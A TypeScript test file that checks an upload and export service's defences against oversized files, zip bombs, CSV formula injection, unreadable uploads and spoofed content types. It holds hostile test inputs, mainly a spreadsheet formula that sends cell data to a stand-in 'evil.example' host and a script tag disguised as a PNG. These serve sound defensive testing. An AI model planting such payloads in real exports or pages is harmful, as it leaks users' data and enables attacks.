// Issue 7 §2, §4, §8 at the services, on a real test database (PGlite, or the server named by
// TEST_DATABASE_URL): one upload kills the server (limits while streaming, named in the error;
// bounded problem lists; parsing in a worker thread), CSV exports carry live formulas (neutralised,
// and the export re-imports unchanged), unreadable files are not quarantined (now they are, with
// the reason) and the uploaded Content-Type is echoed back (now the server's own detection).
import { UPLOAD_LIMITS } from '@steward/core/limits';
import { zipBombXlsx } from '@steward/core/sdc/test-support/zip-bomb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../types';
import { aggregatedEntryInput, createWorld, type World } from '../test-support/fixtures';
import { REGISTRY_FIELDS } from './validation';

let w: World;
let alice: Actor;
let entryId: string;

const HEADER =
  'title,description,purpose,kind,dataTypes,containsPersonalData,containsDemographicData,dataSubjects,collectionMethod,storageLocation,accessDescription,aggregationLevel,includesNames,includesCoordinates,retentionPeriod,destructionMethod,focalPoint,nextReviewOn';
const GOOD =
  'Site list,Sites,Planning,asset,movement-locations,no,no,IDPs,direct-observation,Steward,IM,site,yes,yes,2 years,Deletion,IMO,2026-12-01';

const entry = aggregatedEntryInput;

const text = (s: string) => new TextEncoder().encode(s);
const failure = (p: Promise<unknown>) =>
  p.then(
    () => {
      throw new Error('expected a failure');
    },
    (e: unknown) => e as { code: string; message: string; details: Record<string, unknown> },
  );

/** `rows` one-column lines ("x\n"), written into one buffer. */
function oneColumnCsv(rows: number, header = 'title'): Uint8Array {
  const head = Buffer.from(`${header}\n`);
  const out = Buffer.alloc(head.length + rows * 2, 'x\n');
  head.copy(out, 0);
  return new Uint8Array(out);
}

beforeAll(async () => {
  w = await createWorld();
  alice = (
    await w.services.auth.login({
      email: w.alice.email,
      password: w.alice.password,
      ip: null,
      userAgent: null,
    })
  ).actor;
  entryId = (await w.services.registry.create(alice, entry())).id;
}, 120_000);
afterAll(async () => w?.db.close());

describe('one upload kills the server (issue 7 §2)', () => {
  it('an 8 MB CSV of 4,000,000 one-column rows is refused at the row limit, named, nothing imported', async () => {
    const before = (await w.services.registry.list(alice)).length;
    const e = await failure(
      w.services.registry.importRegistry(alice, { name: 'big.csv', bytes: oneColumnCsv(4_000_000) }),
    );
    expect(e.code).toBe('limit-exceeded');
    expect(e.details).toMatchObject({ limit: 'rows', max: UPLOAD_LIMITS.importRows, file: 'big.csv' });
    expect(e.message).toContain('"rows"');
    expect((await w.services.registry.list(alice)).length).toBe(before);
  }, 60_000);

  it('a 2 MB CSV of 1,000,000 rows is refused the same way', async () => {
    const e = await failure(
      w.services.registry.importRegistry(alice, { name: 'mid.csv', bytes: oneColumnCsv(1_000_000) }),
    );
    expect(e).toMatchObject({ code: 'limit-exceeded', details: { limit: 'rows' } });
  }, 60_000);

  it('a ~1 MB XLSX whose sheet inflates to 400 MB is refused as a zip bomb', async () => {
    const e = await failure(
      w.services.registry.importRegistry(alice, {
        name: 'bomb.xlsx',
        bytes: await zipBombXlsx(400 * 1024 * 1024),
      }),
    );
    expect(e).toMatchObject({
      code: 'limit-exceeded',
      details: { limit: 'compressionRatio', max: UPLOAD_LIMITS.compressionRatio },
    });
  }, 60_000);

  it('a file over the byte limit is refused before it is read, naming the limit', async () => {
    const e = await failure(
      w.services.registry.importRegistry(alice, {
        name: 'huge.csv',
        bytes: new Uint8Array(UPLOAD_LIMITS.fileBytes + 1),
      }),
    );
    expect(e).toMatchObject({
      code: 'limit-exceeded',
      details: { limit: 'fileBytes', max: UPLOAD_LIMITS.fileBytes },
    });
    const f = await failure(
      w.services.registry.uploadFile(alice, entryId, {
        name: 'huge.bin',
        bytes: new Uint8Array(UPLOAD_LIMITS.fileBytes + 1),
      }),
    );
    expect(f).toMatchObject({ code: 'limit-exceeded', details: { limit: 'fileBytes' } });
  });

  it('keeps the first problems only and says how many more there are', async () => {
    const bad = GOOD.replace('2026-12-01', '2026-13-01');
    const rows = Array.from({ length: 250 }, () => bad).join('\n');
    const e = await failure(
      w.services.registry.importRegistry(alice, { name: 'bad.csv', bytes: text(`${HEADER}\n${rows}\n`) }),
    );
    expect(e.code).toBe('validation');
    expect((e.details.fields as unknown[]).length).toBe(UPLOAD_LIMITS.errorsKept);
    expect(e.details).toMatchObject({
      problemCount: 250,
      moreProblems: 250 - UPLOAD_LIMITS.errorsKept,
      limit: 'errorsKept',
      max: UPLOAD_LIMITS.errorsKept,
    });
    expect(e.message).toContain(`${250 - UPLOAD_LIMITS.errorsKept} more`);
  });

  it('parses in a worker thread: the event loop keeps turning while a large import is read', async () => {
    // 5,000 rows × ~4 KB, every row invalid: the whole cost is reading and validating.
    const long = 'd'.repeat(4000);
    const row = GOOD.replace('Sites,', `${long},`).replace('2026-12-01', 'not-a-date');
    const body = text(
      `${HEADER}\n${Array.from({ length: UPLOAD_LIMITS.importRows }, () => row).join('\n')}\n`,
    );
    let done = false;
    const importing = failure(
      w.services.registry.importRegistry(alice, { name: 'slow.csv', bytes: body }),
    ).finally(() => (done = true));
    // Ticks of the event loop counted while the import is in progress.
    let ticks = 0;
    while (!done) {
      await new Promise((r) => setTimeout(r, 5));
      if (!done) ticks++;
    }
    const e = await importing;
    expect(e).toMatchObject({ code: 'validation', details: { problemCount: UPLOAD_LIMITS.importRows } });
    expect(ticks).toBeGreaterThan(3);
  }, 60_000);
});

describe('CSV exports carry live formulas (issue 7 §4)', () => {
  it('a formula in a title is neutralised in the CSV export, and the export re-imports unchanged', async () => {
    const evil = '=HYPERLINK("http://evil.example/?d="&B2,"Click")';
    await w.services.registry.create(
      alice,
      entry({ title: evil, description: '@SUM(1)', purpose: "'quoted" }),
    );
    await w.services.registry.create(
      alice,
      entry({ title: '-2+3', dataTypes: ['needs-assessment', 'protection-monitoring'] }),
    );
    const out = await w.services.registry.exportRegistry(alice, 'csv');
    const csv = new TextDecoder().decode(out.bytes);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&B2,""Click"")"`);
    expect(csv).not.toMatch(/(^|[\r\n,])"?[=+@]/);
    expect(csv).not.toMatch(/(^|[\r\n,])-2\+3/);
    // Today the "#" first line made the export's own import fail; now it imports, unchanged.
    const before = await w.services.registry.list(alice);
    const result = await w.services.registry.importRegistry(alice, { name: out.name, bytes: out.bytes });
    expect(result.created).toBe(before.length);
    const after = await w.services.registry.list(alice);
    const fieldsOf = async (id: string) => {
      const e = await w.services.registry.get(alice, id);
      return Object.fromEntries(REGISTRY_FIELDS.map((f) => [f, e[f]]));
    };
    const oldIds = new Set(before.map((b) => b.id));
    const originals = await Promise.all(before.map((b) => fieldsOf(b.id)));
    const copies = await Promise.all(after.filter((a) => !oldIds.has(a.id)).map((a) => fieldsOf(a.id)));
    const key = (x: Record<string, unknown>) => JSON.stringify(x);
    expect(copies.map(key).sort()).toEqual(originals.map(key).sort());
    expect(copies.some((c) => c.title === evil && c.purpose === "'quoted")).toBe(true);
  });
});

describe('unreadable files are not quarantined; the Content-Type is echoed (issue 7 §8)', () => {
  it('a CSV the scanner cannot read is quarantined with the reason', async () => {
    const latin1 = new Uint8Array([...text('district,name\nPemba,'), 0xe9, 0x0a]);
    const info = await w.services.registry.uploadFile(alice, entryId, { name: 'latin1.csv', bytes: latin1 });
    expect(info.quarantined).toBe(true);
    expect(info.scanProblem).toMatchObject({ code: 'encoding' });
    expect(info.scanProblem!.message).toContain('UTF-8');
    // Nothing to declare: only an accepted justification releases it.
    await expect(
      w.services.registry.confirmFile(alice, entryId, info.id, { action: 'declare' }),
    ).rejects.toMatchObject({
      code: 'validation',
    });
    const released = await w.services.registry.confirmFile(alice, entryId, info.id, {
      action: 'accept',
      justification: 'Checked by hand: district names only.',
    });
    expect(released.quarantined).toBe(false);
  });

  it('a damaged XLSX, a zip bomb and a file of another type are quarantined with their reasons', async () => {
    const damaged = await w.services.registry.uploadFile(alice, entryId, {
      name: 'broken.xlsx',
      bytes: text('PK\u0003\u0004 not really a workbook'),
    });
    expect(damaged).toMatchObject({ quarantined: true, scanProblem: { code: 'invalid-xlsx' } });
    const bomb = await w.services.registry.uploadFile(alice, entryId, {
      name: 'bomb.xlsx',
      bytes: await zipBombXlsx(50 * 1024 * 1024),
    });
    expect(bomb).toMatchObject({
      quarantined: true,
      scanProblem: { code: 'limit-exceeded', limit: 'compressionRatio', max: UPLOAD_LIMITS.compressionRatio },
    });
    const pdf = await w.services.registry.uploadFile(alice, entryId, {
      name: 'report.pdf',
      contentType: 'application/pdf',
      bytes: text('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<<>>\nendobj\n'),
    });
    expect(pdf).toMatchObject({ quarantined: true, scanProblem: { code: 'not-tabular' } });
  }, 60_000);

  it('the content type comes from the server, not from the upload', async () => {
    const page = await w.services.registry.uploadFile(alice, entryId, {
      name: 'notes.csv',
      contentType: 'text/html',
      bytes: text('district,count\nPemba,3\n'),
    });
    expect(page.quarantined).toBe(false);
    const back = await w.services.registry.downloadFile(alice, entryId, page.id);
    expect(back.contentType).toBe('text/csv; charset=utf-8');
    const disguised = await w.services.registry.uploadFile(alice, entryId, {
      name: 'photo.png',
      contentType: 'image/png',
      bytes: text('<html><script>alert(1)</script></html>'),
    });
    const got = await w.services.registry.downloadFile(alice, entryId, disguised.id);
    expect(got.contentType).toBe('text/plain; charset=utf-8');
    const rows = await w.db.asSystem('test', async (tx) =>
      (await import('@steward/db')).queryRows<{ content_type: string }>(
        tx,
        (await import('drizzle-orm')).sql`select content_type from registry_files where id = ${disguised.id}`,
      ),
    );
    expect(rows[0]!.content_type).toBe('text/plain; charset=utf-8');
  });
});
